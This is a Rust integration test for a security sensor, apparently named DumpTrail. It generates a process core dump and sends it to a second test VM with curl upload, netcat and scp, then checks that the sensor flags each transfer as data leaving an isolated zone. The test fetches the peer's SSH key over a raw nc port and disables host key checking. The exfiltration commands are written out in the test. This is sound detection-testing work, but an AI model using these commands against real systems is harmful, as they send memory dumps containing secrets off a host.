//! Another host, over a real network: its address is the destination, and what arrives there is the dump.
//!
//! `DUMPTRAIL_TEST_PEER` is its address; a pair of virtual machines sets it (`xtask/src/vm/peer.sh` is the other host).

use std::{
    fs::{self, File},
    net::IpAddr,
    os::unix::fs::PermissionsExt,
    process::Command,
    time::Instant,
};

use sensor_abi::flow::Via;
use sensor_user::step::{Confidence, Severity, StepKind};

use super::Own;
use crate::harness::{
    agent::{Agent, Setup},
    expect::{Expect, step},
    guard::Running,
    roles,
    scene::{Dump, SOON, Scene},
};

const PEER: &str = "DUMPTRAIL_TEST_PEER";
/// Where the other host takes HTTP, and bare TCP; where it gives away the key to its sshd.
const PORTS: [u16; 3] = [8000, 9000, 7000];

pub(super) const ALL: &[Own] = &[("peer::curl_nc_and_scp", curl_nc_and_scp)];

/// Whether there is another host.
pub(super) fn is_there() -> bool {
    std::env::var_os(PEER).is_some()
}

/// This host is production, everything else the Internet.
const CONFIG: &str = "version: 1\nhost_zone: production\nzones:\n- {name: production, exposure: isolated}\n\
                      - {name: internet, exposure: internet-facing, networks: [\"0.0.0.0/0\"]}\n";

fn curl_nc_and_scp() {
    let peer: IpAddr = std::env::var(PEER).expect("the address of the other host").parse().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let agent = Agent::start(folder.path(), &Setup::of(CONFIG));
    let scene = Scene::new(&agent);
    let key = key(&scene, peer);
    let dump = scene.core_of(scene.folder(), Command::new(roles::program("victim")).arg("2097152"));
    let [http, tcp, _] = PORTS;
    scene.complete(Command::new("curl").args(["-sS", "-T", &dump.path, &format!("http://{peer}:{http}/up")]));
    left(&scene, &dump, &step(StepKind::Sent).from("curl[]").destination(peer, http).bytes(dump.size));
    scene.complete(Command::new("sh").args(["-c", &format!("exec nc -N {peer} {tcp} < {}", dump.path)]));
    left(&scene, &dump, &step(StepKind::Sent).from("nc[]").destination(peer, tcp).bytes(dump.size));
    scene.complete(ssh("scp", &key).args([&dump.path, &format!("root@{peer}:by-scp")]));
    // What ssh adds to each packet comes on top.
    let most = dump.size + dump.size / 20;
    left(&scene, &dump, &step(StepKind::Sent).from("ssh[]").destination(peer, 22).between(dump.size, most));
    let line = "until [ -e by-curl ]; do sleep .1; done; cat by-curl; sha256sum by-nc by-scp";
    let sum = said(Command::new("sha256sum").stdin(File::open(&dump.path).unwrap()));
    let sum = sum.split_whitespace().next().unwrap();
    let arrived = said(ssh("ssh", &key).args([&format!("root@{peer}"), line]));
    assert_eq!(arrived, format!("whole\n{sum}  by-nc\n{sum}  by-scp\n"), "what has arrived is the dump");
    agent.stop();
}

/// The step by which it left, and the critical alert.
fn left(scene: &Scene<'_>, dump: &Dump, wanted: &Expect) {
    let wanted = wanted.clone().via(Via::Tcp).zones("production", "internet").sure(Confidence::Direct);
    scene.sees(dump, &wanted);
    let so_far = wanted.between(4096, u64::MAX);
    scene.alerts(dump, "dump-left-isolation", Severity::Critical, &so_far);
}

/// Waits until the other host gives the key to its sshd away: it listens everywhere by then.
fn key(scene: &Scene<'_>, peer: IpAddr) -> String {
    let (key, end) = (scene.path("id"), Instant::now() + SOON * 8);
    while fs::metadata(&key).map_or(0, |data| data.len()) == 0 {
        assert!(Instant::now() < end, "{peer} gives no key");
        std::thread::sleep(std::time::Duration::from_millis(200));
        let mut nc = Command::new("nc");
        nc.args(["-w", "2", &peer.to_string(), &PORTS[2].to_string()]).stdout(File::create(&key).unwrap());
        Running::start(&mut nc).within(SOON);
    }
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    key
}

fn ssh(program: &str, key: &str) -> Command {
    let mut command = Command::new(program);
    command.args(["-F", "none", "-i", key, "-o", "IdentitiesOnly=yes", "-o", "StrictHostKeyChecking=no"]);
    command.args(["-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]);
    command
}

fn said(command: &mut Command) -> String {
    let output = command.output().unwrap();
    assert!(output.status.success(), "{command:?}: {output:?}");
    String::from_utf8(output.stdout).unwrap()
}
